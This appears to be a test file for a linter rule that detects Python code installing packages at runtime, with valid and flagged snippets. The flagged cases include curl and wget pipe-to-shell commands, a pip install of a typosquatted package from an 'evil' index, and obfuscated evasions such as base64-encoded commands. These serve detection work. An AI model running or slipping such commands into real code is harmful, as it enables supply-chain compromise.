import rule from '../../../src/core/rules/py/runtime-install';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    "import subprocess\nsubprocess.run(['pip', 'freeze'])",
    "import subprocess\nsubprocess.run(['pip', 'list', '--outdated'])",
    "print('run: pip install requests')",
    '# pip install requests\nimport requests',
    'import subprocess\nsubprocess.run(["git", "status"])',
    'def install(pkg):\n    registry.add(pkg)\n\ninstall("x")',
    'self.run("pip install x")',
    "installer.install('numpy')",
    "import os\nos.system('pip --version')",
    "import subprocess\nsubprocess.run(['python', '-m', 'pytest'])",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'show', 'torch'])",
    "import pip\npip.main(['list'])",
    '"""Install with:\n\n    pip install mypkg\n"""',
    "import subprocess\nsubprocess.run(['curl', '-o', 'data.csv', url])",
  ],
  invalid: [
    {
      code: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests'])",
      errors: [{ messageId: 'install', line: 2, column: 1, severity: 'medium', category: 'supply-chain' }],
    },
    {
      code: "import subprocess\nsubprocess.run(['pip', 'install', 'numpy==1.26.0'])",
      errors: [{ messageId: 'install', severity: 'medium' }],
    },
    {
      code: "import subprocess\nsubprocess.run('pip install -q tqdm', shell=True)",
      errors: [{ messageId: 'install', severity: 'medium' }],
    },
    { code: "import subprocess\nsubprocess.run(['pip', 'install', pkg])", errors: [{ messageId: 'installRisky', severity: 'high' }] },
    { code: "import os\nos.system(f'pip install {pkg}')", errors: [{ messageId: 'installRisky', severity: 'high' }] },
    { code: "import os\nos.system('pip install ' + name)", errors: [{ messageId: 'installRisky', severity: 'high' }] },
    {
      code: "import subprocess\nsubprocess.run(['pip', 'install', 'git+https://github.com/x/y.git'])",
      errors: [{ messageId: 'installRisky', severity: 'high' }],
    },
    {
      code: "import subprocess\nsubprocess.run(['pip', 'install', '--index-url', 'https://pypi.evil.example/simple', 'reqeusts'])",
      errors: [{ messageId: 'installRisky', severity: 'high' }],
    },
    {
      code: "import subprocess\nsubprocess.run(['pip', 'install', '-r', 'requirements.txt'])",
      errors: [{ messageId: 'install', severity: 'medium' }],
    },
    { code: "import subprocess\nsubprocess.run(['uv', 'pip', 'install', 'polars'])", errors: [{ messageId: 'install' }] },
    { code: "import subprocess\nsubprocess.run(['conda', 'install', '-y', 'pytorch'])", errors: [{ messageId: 'install' }] },
    { code: "import subprocess\nsubprocess.run(['npm', 'install', 'left-pad'])", errors: [{ messageId: 'install' }] },
    { code: "import subprocess\nsubprocess.run('apt-get install -y curl', shell=True)", errors: [{ messageId: 'install' }] },
    { code: "import subprocess\nsubprocess.run(['npx', 'some-tool'])", errors: [{ messageId: 'installRisky', severity: 'high' }] },
    {
      code: "import subprocess\nsubprocess.run('curl -sSL https://get.example.sh | bash', shell=True)",
      errors: [{ messageId: 'pipe', severity: 'high' }],
    },
    { code: "import os\nos.system('wget -qO- https://x.example/i.sh | sh')", errors: [{ messageId: 'pipe', severity: 'high' }] },
    { code: "import pip\npip.main(['install', 'colorama'])", errors: [{ messageId: 'pipMain', severity: 'medium' }] },
    { code: "import pip\npip.main(['install', name])", errors: [{ messageId: 'pipMain', severity: 'high' }] },
    { code: "from pip._internal import main\nmain(['install', 'x'])", errors: [{ messageId: 'pipMain', line: 2 }] },
    { code: "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'x'])", errors: [{ messageId: 'pipMain' }] },
    { code: "args = ['install', 'six']\nimport pip\npip.main(args)", errors: [{ messageId: 'pipMain' }] },
    // evasions the resolver follows
    { code: "import subprocess as sp\nsp.call(['pip3', 'install', 'rich'])", errors: [{ messageId: 'install', line: 2 }] },
    { code: "from subprocess import run as go\ngo(['pip', 'install', 'rich'])", errors: [{ messageId: 'install' }] },
    { code: "import importlib\nimportlib.import_module('subprocess').run(['pip', 'install', 'rich'])", errors: [{ messageId: 'install' }] },
    { code: "getattr(__import__('os'), 'sys' + 'tem')('pip install rich')", errors: [{ messageId: 'install' }] },
    { code: "import subprocess\nrun = subprocess.run\nrun(['pip', 'install', 'rich'])", errors: [{ messageId: 'install', line: 3 }] },
    { code: "import subprocess\ncmd = ['pip', 'install', 'rich']\nsubprocess.run(cmd)", errors: [{ messageId: 'install', line: 3 }] },
    { code: "import os\nos.system('pip ' + 'inst' + 'all rich')", errors: [{ messageId: 'install' }] },
    { code: "import os, base64\nos.system(base64.b64decode('cGlwIGluc3RhbGwgcmljaA==').decode())", errors: [{ messageId: 'install' }] },
    {
      code: "import subprocess\nsubprocess.Popen(['python3', '-m', 'pip', 'install', '--user', 'pyyaml'])",
      errors: [{ messageId: 'install' }],
    },
  ],
});
